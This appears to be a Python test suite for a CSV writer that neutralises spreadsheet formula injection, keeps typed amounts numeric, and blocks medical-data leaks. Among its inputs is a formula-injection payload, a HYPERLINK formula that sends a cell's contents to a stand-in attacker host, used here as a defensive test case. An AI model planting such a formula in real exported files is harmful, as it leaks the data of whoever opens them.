"""The one CSV writer: text cells inert in a spreadsheet, true numbers left alone, rows never split, dialects."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings, strategies as st

from recouvrement.render.csvfile import EXCEL_FR, MASK, PLAIN, Amount, cell_text, csv_document, csv_text, inert
from recouvrement.scanner import PrivacyLeak

# What a spreadsheet may run: OWASP's list, checked at the start and after leading whitespace.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_inert(cell: str) -> bool:
    return not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS)


def read(text: str, dialect=PLAIN) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))


# Text from outside, biased towards what starts a formula.
outside = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\r\n+", "\u00a0-", "\u3000@", "\u200b=", "\ufeff+", "\uff1d",
     '"', ";", ",", "'"]), st.text()))


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example?"&A1;"clic")', "+33 6 12 34 56 78", "-12,50",
                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\n\n-2", "\u200b=1", "\uff1d1+1"])
def test_a_text_cell_that_could_start_a_formula_is_prefixed_with_a_quote(text):
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Dupont", "3 rue des Lilas", "MGEN", "75019", "O'Neil", "Jean-Pierre", "a=b",
                                  ""])
def test_ordinary_text_is_written_unchanged(text):
    assert inert(text) == text


def test_amounts_and_integers_we_typed_stay_numbers_even_negative():
    assert [cell_text(v) for v in (Amount(-1250), Amount(123456), 7, -3, None, date(2025, 6, 2))] == [
        "-12.50", "1234.56", "7", "-3", "", "2025-06-02"]
    assert cell_text(Amount(-1250), EXCEL_FR) == "-12,50"


def test_a_float_is_refused_money_never_touches_float():
    with pytest.raises(TypeError):
        cell_text(12.5)


def test_a_lone_carriage_return_is_quoted_so_no_row_starts_inside_a_cell():
    text = csv_text(["name", "amount"], [["Martin\r=HYPERLINK(1)", Amount(100)]])
    assert text == 'name,amount\n"Martin\r=HYPERLINK(1)",1.00\n'
    assert read(text) == [["name", "amount"], ["Martin\r=HYPERLINK(1)", "1.00"]]


def test_the_french_excel_dialect_has_semicolons_decimal_commas_a_bom_and_crlf():
    data = csv_document("x.csv", ["name", "amount"], [["Caisse; Mutuelle", Amount(-1250)], ["-5", Amount(3)]],
                        dialect=EXCEL_FR)
    assert data == '\ufeffname;amount\r\n"Caisse; Mutuelle";-12,50\r\n\'-5;0,03\r\n'.encode("utf-8")


def test_the_default_dialect_is_plain_comma_separated_utf8_without_bom():
    assert csv_document("x.csv", ["a", "b"], [["é", Amount(5)]]) == "a,b\né,0.05\n".encode("utf-8")


def test_the_masked_row_is_the_flagged_one_even_after_a_cell_spanning_lines():
    rows = [["P1", "ligne 1\nligne 2\nligne 3"], ["P2", "séance de kinésithérapie"], ["P3", "virement"]]
    text = csv_document("x.csv", ["id", "reference"], rows, free_text=("reference",)).decode()
    assert read(text)[1:] == [["P1", "ligne 1\nligne 2\nligne 3"], ["P2", MASK], ["P3", "virement"]]


def test_medical_text_outside_the_free_text_columns_is_refused():
    with pytest.raises(PrivacyLeak):
        csv_document("x.csv", ["id", "name"], [["P1", "séance de kinésithérapie"]])


@settings(max_examples=300)
@given(st.lists(st.lists(st.one_of(outside, st.integers(-10**12, 10**12).map(Amount), st.integers()),
                         min_size=3, max_size=3), max_size=6),
       st.sampled_from([PLAIN, EXCEL_FR]))
def test_every_cell_the_writer_writes_is_a_number_we_typed_or_inert_and_rows_never_split(rows, dialect):
    text = csv_text(["a", "b", "c"], rows, dialect)
    back = read(text, dialect)
    assert len(back) == len(rows) + 1 and all(len(row) == 3 for row in back)
    for row, written in zip(rows, back[1:]):
        for value, cell in zip(row, written):
            if isinstance(value, str):
                assert is_inert(cell) and cell in (value, "'" + value)
            else:
                assert cell == cell_text(value, dialect)


@settings(max_examples=100, deadline=None)
@given(st.lists(outside, max_size=20))
def test_a_long_column_of_text_is_made_inert_cell_by_cell_as_inert_makes_each(cells):
    from recouvrement.render.csvfile import _ARROW_FROM, _inert_texts

    values = cells + ["(toutes)", "Dupont", "", "=P2"] * (_ARROW_FROM // 4) + cells     # long: looked at by Arrow
    assert _inert_texts(values) == [inert(value) for value in values]


def test_the_cycle_collector_is_paused_while_a_document_is_made_and_scanned_and_set_back_after():
    import gc
    from unittest import mock

    from recouvrement.core import privacy

    seen = []
    scan = privacy.scan_text

    def scan_text(*args, **kwargs):
        seen.append(gc.isenabled())
        return scan(*args, **kwargs)

    assert gc.isenabled()
    with mock.patch.object(privacy, "scan_text", scan_text):
        csv_document("x.csv", ["name"], [["Dupont"]], free_text=("name",))
        with pytest.raises(PrivacyLeak):
            csv_document("x.csv", ["name"], [["184127645108946"]])
    assert seen == [False] and gc.isenabled()


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(outside, min_size=3, max_size=3), max_size=8), st.integers(0, 8), st.booleans())
def test_a_files_lines_are_its_parts_lines_joined_in_order(rows, cut, long):
    # app.remind makes a dry run's listing in two processes, each part's lines apart (render.listing).
    from recouvrement.render.csvfile import _ARROW_FROM, csv_lines

    rows = rows + [["P1", "Dupont", "(toutes)"]] * (_ARROW_FROM if long else 0)     # long: columns seen by Arrow
    cut = min(cut, len(rows))
    whole = csv_text(["a", "b", "c"], rows, EXCEL_FR)
    assert csv_text(["a", "b", "c"], [], EXCEL_FR) + csv_lines(rows[:cut], EXCEL_FR) + csv_lines(rows[cut:], EXCEL_FR) \
        == whole
